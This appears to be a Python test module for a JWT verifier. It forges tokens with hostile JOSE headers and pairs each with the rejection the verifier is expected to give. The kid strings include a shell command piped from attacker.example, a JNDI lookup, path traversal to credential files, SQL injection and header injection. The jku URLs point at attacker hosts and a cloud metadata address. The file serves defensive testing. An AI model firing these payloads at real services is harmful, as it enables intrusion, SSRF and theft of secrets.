"""Attacks by way of the JOSE header: which key, which type, which extension; each signature is genuine for its key."""

import json

from ..forge import Mint, b64, dumps, private_key, public_jwk, tokens

KIDS = {
    "of another letter case": "es256",
    "with a blank after it": "ES256 ",
    "with a NUL after it": "ES256\0",
    "with a newline after it": "ES256\n",
    "with a full-width digit": "ES25\uff16",
    "with a zero-width blank": "ES256\u200b",
    "that is empty": "",
    "that is a blank": " ",
    "of the text None": "None",
    "of the text null": "null",
    "of a number as text": "0",
    "of a wildcard": "*",
    "of a path to an empty file": "../../../../../../dev/null",
    "of an absolute path": "/proc/self/environ",
    "of a DOS path": "..\\..\\windows\\win.ini",
    "of a file URL": "file:///etc/passwd",
    "of an https URL": "https://attacker.example/jwks.json",
    "of a SQL injection": "x' UNION SELECT 'secret' -- ",
    "of a shell command": "ES256; curl https://attacker.example | sh",
    "of a command substitution": "$(id)`id`",
    "of a format string": "{0.__class__.__init__.__globals__}%s%n",
    "of a lookup": "${jndi:ldap://attacker.example/a}",
    "of markup": "<script>alert(1)</script>",
    "of a header injection": 'x"\r\nSet-Cookie: session=1',
    "of a prototype": "__proto__",
    "of a cache key": "django_oauth_jwt:jwks",
    "of ten thousand letters": "k" * 10_000,
    "of an emoji": "\U0001f511",
    "of Latin-1 letters": "\u00fc\u00e9",
}
UNKNOWN = tokens(
    "unknown_kid",
    {f"kid {name}": lambda m, k=kid: m.signed({"kid": k}) for name, kid in KIDS.items()},
)
NOT_STRINGS = ("5", "true", "false", "0", "[]", '["ES256"]', '{"ES256": 1}', "{}", "1.5")
MALFORMED_KIDS = tokens(
    "malformed", {f"kid is {text}": lambda m, t=text: m.literal("kid", t, header=True) for text in NOT_STRINGS}
)


def _attacker(kid, alg="ES256"):
    return Mint(alg, private_key(alg, "attacker"), kid)


def _injected(name, kid):
    """Return a token of the attacker's key that says itself where that key is."""
    attacker = _attacker("attacker")
    jwk = {**public_jwk(attacker.key), "kid": attacker.kid, "use": "sig"}
    own = {"jwk": jwk, "x5c": [jwk["x"], jwk["y"]], "jwks": {"keys": [jwk]}, "x5t": jwk["x"][:27], "x5t#S256": jwk["x"]}
    return attacker.signed({"kid": kid, name: own.get(name, "https://attacker.example/jwks.json")})


PLACES = ("jku", "x5u", "jwk", "jwks", "x5c", "x5t", "x5t#S256", "jwks_uri", "iss")
INJECTED = [
    case
    for name in PLACES
    for kid, meaning, reason in [
        ("ES256", "a known kid", "bad_signature"),
        ("attacker", "the attacker's kid", "unknown_kid"),
        (..., "no kid", "bad_signature"),
    ]
    for case in tokens(reason, {f"{name} injected with {meaning}": lambda m, n=name, k=kid: _injected(n, k)})
]
INJECTED += tokens(
    "bad_signature",
    {
        "jku on this server": lambda m: _attacker("ES256").signed({"jku": "http://testserver/upload/jwks.json"}),
        "jku with the issuer's user name": lambda m: _attacker("ES256").signed(
            {"jku": "https://as.example@attacker.example/jwks"}
        ),
        "jku inside this network": lambda m: _attacker("ES256").signed({"jku": "http://169.254.169.254/latest/"}),
        "jwk that is the good key": lambda m: _attacker("ES256").signed({"jwk": m.jwk}),
        "no kid, and another's key": lambda m: _attacker("ES256").signed({"kid": ...}),
    },
) + tokens(
    "unknown_kid",
    {
        "jwk that is a secret": lambda m: m.signed({"kid": "x", "jwk": {"kty": "oct", "k": "AAAA"}}),
        "epk of a key agreement": lambda m: m.signed({"kid": "x", "epk": m.jwk}),
    },
)

INJECTED += tokens(
    "wrong_algorithm",
    {f"kid of the server's {kid} key": lambda m, k=kid: m.signed({"kid": k}) for kid in ("ES384", "RS256", "EdDSA")},
)

CRITICAL = {
    "crit that names nothing": {"crit": []},
    "crit that is false": {"crit": False},
    "crit that is a string": {"crit": "exp"},
    "crit that is an object": {"crit": {}},
    "crit of a registered header": {"crit": ["alg"]},
    "crit of a claim": {"crit": ["exp"], "exp": 1},
    "crit of an unknown extension": {"crit": ["http://example.com/UNDEFINED"], "http://example.com/UNDEFINED": True},
    "crit of a member that is not there": {"crit": ["x"]},
    "crit of itself": {"crit": ["crit"]},
    "crit of a number": {"crit": [5]},
    "crit of b64": {"crit": ["b64"], "b64": True},
    "b64 false with crit": {"crit": ["b64"], "b64": False},
    "b64 false without crit": {"b64": False},
    "b64 true without crit": {"b64": True},
    "b64 zero": {"b64": 0},
}
EXTENSIONS = tokens(
    "critical_header",
    {name: lambda m, h=header: m.signed(h) for name, header in CRITICAL.items()}
    | {
        "crit spelled with escapes": lambda m: m.raw(_escaped(m, "crit", "[]")),
        "b64 spelled with escapes": lambda m: m.raw(_escaped(m, "b64", "false")),
        "payload not encoded, with b64 false": lambda m: m.segments(
            b64(dumps(m.header | {"b64": False, "crit": ["b64"]})), '{"sub":"admin"}'
        ),
    },
)

NULLS = tokens(
    "malformed",
    {f"{name} that is null": lambda m, n=name: m.signed({n: None}) for name in ("crit", "b64", "enc", "nonce", "iss")},
)


def _escaped(mint, name, value):
    spelled = "".join(f"\\u{ord(letter):04x}" for letter in name)
    return json.dumps(mint.header)[:-1].encode() + f', "{spelled}": {value}}}'.encode()


TYPES = ("dpop+jwt", "logout+jwt", "secevent+jwt", "JWE", "JOSE", "JOSE+JSON", "id+jwt", "at+jwt ", " at+jwt")
TYPES += ("at+jwt\0", "", "application/", "application/application/at+jwt", "text/at+jwt", "at jwt", "AT+JWT;v=1")
WRONG_TYPES = tokens(
    "wrong_type",
    {f"typ {typ!a}": lambda m, t=typ: m.signed({"typ": t}) for typ in TYPES},
) + tokens(
    "malformed",
    {
        f"typ is {text}": lambda m, t=text: m.literal("typ", t, header=True)
        for text in ("5", "true", "[]", '["JWT"]', "{}")
    },
)

CASES = [*UNKNOWN, *MALFORMED_KIDS, *INJECTED, *EXTENSIONS, *NULLS, *WRONG_TYPES]
